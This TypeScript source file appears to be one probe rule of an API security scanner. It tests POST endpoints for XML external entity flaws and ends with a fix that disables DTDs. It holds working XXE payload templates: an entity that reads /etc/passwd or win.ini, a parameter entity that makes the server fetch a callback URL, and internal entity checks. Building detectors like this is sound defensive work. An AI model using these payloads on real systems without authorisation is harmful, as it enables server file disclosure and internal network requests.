import {
  compared,
  holdsSystemFile,
  isHarmlessToTry,
  judgeCallback,
  NotTested,
  probeRule,
  shown,
  textIn,
  unusable,
  validCall,
  xmlDocument,
  type ApiModel,
  type Body,
  type Evidence,
  type Exchange,
  type Identity,
  type Operation,
  type Target,
} from '#rule';

export default probeRule({
  id: 'xxe',
  title: 'XML entities of a request are read',
  severity: 'critical',
  tiers: [
    { name: 'file', severity: 'critical' },
    { name: 'external', severity: 'high' },
    { name: 'internal', severity: 'medium' },
  ],
  owasp: ['API8:2023'],
  cwe: 611,
  controls: ['PCI DSS 6.2.4'],
  impact: 'create',
  per: 'operation',
  requests: 18,
  identities: 1,
  yieldsTo: ['auth-missing', 'auth-garbage-ok'],
  why: `A document may say that a word in it stands for a file of the server, or for an address inside your network, and the parser fetches it. What it finds comes back in the answer.`,
  fix: `Refuse documents with a DTD, which no API needs:

\`\`\`java
factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
\`\`\``,

  // Frameworks that bind a body to an object take XML for it by the header alone, whatever the document says.
  applies: ({ operation }, api) => operation.method === 'POST' && bodyOf(operation, api) !== undefined,

  async *probe({ operation }, target) {
    const body = bodyOf(operation, target.api);
    if (body === undefined) throw new NotTested('no body that XML could say');
    const valid = await validCall(target, operation);
    if ('undecided' in valid) return valid;
    const xml = new Documents(target, operation, { body, owner: valid.owner });
    const word = `sp${target.random(8)}`;
    const plain = await xml.send(word, '');
    const failed = unusable(plain);
    if (failed !== undefined) return { undecided: failed };
    const isRefused = (plain.response?.status ?? 0) >= 400;
    if (isDeclared(body) && isRefused) return { undecided: 'a valid document is refused' };
    if (!isDeclared(body) && (isRefused || !(await xml.isRead(plain, word)))) return 'decided';
    let untold: NotTested | undefined;
    for (const [tier, ask] of [
      ['file', fileOf],
      ['external', addressOf],
      ['internal', wordOf],
    ] as const) {
      const verdict = await ask(xml, plain, target);
      if (verdict === 'decided') continue;
      // Nobody can call us: the other two can be asked all the same.
      if (verdict instanceof NotTested) untold = verdict;
      else if ('undecided' in verdict) return verdict;
      else {
        const message = says[tier](operation.id);
        yield { at: operation.at, subject: 'request/xml', tier, message, evidence: verdict.proven };
        return 'decided';
      }
    }
    if (untold !== undefined) throw untold;
    return 'decided';
  },
});

const says = {
  file: (id: string) => `${id} reads files of the server that a document names.`,
  external: (id: string) => `${id} calls addresses that a document names.`,
  internal: (id: string) => `${id} fills in entities that a document declares.`,
};

type Verdict = { readonly proven: readonly Evidence[] } | 'decided' | { readonly undecided: string };

/** The XML that the document declares, else JSON that XML can say as well. */
function bodyOf(operation: Operation, api: ApiModel): Body | undefined {
  const declared = operation.requestBodies.find(isDeclared);
  if (declared !== undefined || !isHarmlessToTry(operation, api)) return declared;
  const json = operation.requestBodies.find(({ mediaType }) => /[/+]json$/.test(mediaType));
  const isSayable = json !== undefined && xmlDocument(json, api, { dtd: () => '', text: '' }) !== undefined;
  return isSayable ? json : undefined;
}

function isDeclared({ mediaType }: Body): boolean {
  return /[/+]xml$/.test(mediaType);
}

/** Documents with a DTD, and what the server shows of them. */
class Documents {
  readonly #target: Target;
  readonly #operation: Operation;
  readonly #how: { readonly body: Body; readonly owner: Identity };

  constructor(target: Target, operation: Operation, how: { readonly body: Body; readonly owner: Identity }) {
    this.#target = target;
    this.#operation = operation;
    this.#how = how;
  }

  send(text: string, subset: string, fresh = false): Promise<Exchange> {
    const { body } = this.#how;
    const dtd = (root: string): string => (subset === '' ? '' : `<!DOCTYPE ${root} [${subset}]>`);
    const written = xmlDocument(body, this.#target.api, { dtd, text });
    if (written === undefined)
      throw new NotTested(`${this.#operation.id}: its schema has no text that an entity could stand in`);
    return this.#post(written, fresh);
  }

  #post(text: string, fresh = false): Promise<Exchange> {
    const { body, owner } = this.#how;
    const mediaType = isDeclared(body) ? body.mediaType : 'application/xml';
    return this.#target.call(this.#operation, owner, { rawBody: { text, mediaType }, fresh });
  }

  /** Not ignored: the server shows the word of the document, or refuses what is no document. */
  async isRead(plain: Exchange, word: string): Promise<boolean> {
    if (await this.shows(plain, (answer) => textIn(answer).includes(word))) return true;
    const broken = await this.#post(`<a><b>${word}</a>`);
    return unusable(broken) === undefined && (broken.response?.status ?? 0) >= 400;
  }

  /** The answer, or the object that was made where the answer does not show it. */
  async shows(answer: Exchange, is: (exchange: Exchange) => boolean): Promise<boolean> {
    if (is(answer)) return true;
    const made = this.#target.made(this.#operation, answer);
    if (made === undefined) return false;
    return is(await this.#target.call(made.reader, this.#how.owner, { parameters: made.parameters }));
  }
}

async function fileOf(xml: Documents, plain: Exchange, target: Target): Promise<Verdict> {
  const ask = (file: string, fresh = false): Promise<Exchange> =>
    xml.send('&f;', `<!ENTITY f SYSTEM "file://${file}">`, fresh);
  for (const file of ['/etc/passwd', '/c:/windows/win.ini']) {
    const found = await ask(file);
    if (!(await xml.shows(found, (answer) => holdsSystemFile(answer, [plain])))) continue;
    const missing = await ask(`/etc/sp${target.random(8)}`);
    const isThere = (answer: Exchange): boolean => holdsSystemFile(answer, [plain, missing]);
    if (!(await xml.shows(found, isThere))) return 'decided';
    const again = await ask(file, true);
    if (!(await xml.shows(again, isThere))) return { undecided: 'it did not happen again on a new connection' };
    return {
      proven: [
        shown(target, 'A document without a DTD.', plain),
        shown(target, 'One that names a file that is not there.', missing),
        shown(target, 'One that names a file that every system has.', found),
        shown(target, 'Once more, on a new connection.', again),
        compared(
          'Lines with the grammar of that file',
          'in the other answers: none there',
          'in its answers: yes, twice',
        ),
      ],
    };
  }
  return 'decided';
}

/** A parameter entity is fetched also where no text of the document is shown. */
async function addressOf(xml: Documents, plain: Exchange, target: Target): Promise<Verdict | NotTested> {
  try {
    const verdict = await judgeCallback(target, {
      send: (url, how) => xml.send('sp', `<!ENTITY % p SYSTEM "${url}"> %p;`, how?.fresh),
    });
    if (verdict === 'decided' || 'undecided' in verdict) return verdict;
    const [first, ...rest] = verdict.proven;
    if (first === undefined) return 'decided';
    return { proven: [shown(target, 'A document without a DTD.', plain), first, ...rest] };
  } catch (error) {
    if (error instanceof NotTested) return error;
    throw error;
  }
}

async function wordOf(xml: Documents, plain: Exchange, target: Target): Promise<Verdict> {
  const answers: Exchange[] = [];
  for (const fresh of [false, false, true]) {
    const [left, right] = [`sp${target.random(6)}`, target.random(6)];
    const answer = await xml.send('&a;&b;', `<!ENTITY a "${left}"><!ENTITY b "${right}">`, fresh);
    // Side by side they stand nowhere in the request: it was not repeated.
    if (!(await xml.shows(answer, (exchange) => textIn(exchange).includes(left + right)))) {
      return answers.length === 0 ? 'decided' : { undecided: 'it did not happen again' };
    }
    answers.push(answer);
  }
  const notes = ['Two entities, declared by the document.', 'Two others.', 'Two more, on a new connection.'];
  return {
    proven: [
      shown(target, 'A document without a DTD.', plain),
      ...answers.map((answer, index) => shown(target, notes[index] ?? '', answer)),
      compared('What two entities stand for, side by side', 'in the requests: nowhere', 'in the answers: three times'),
    ],
  };
}
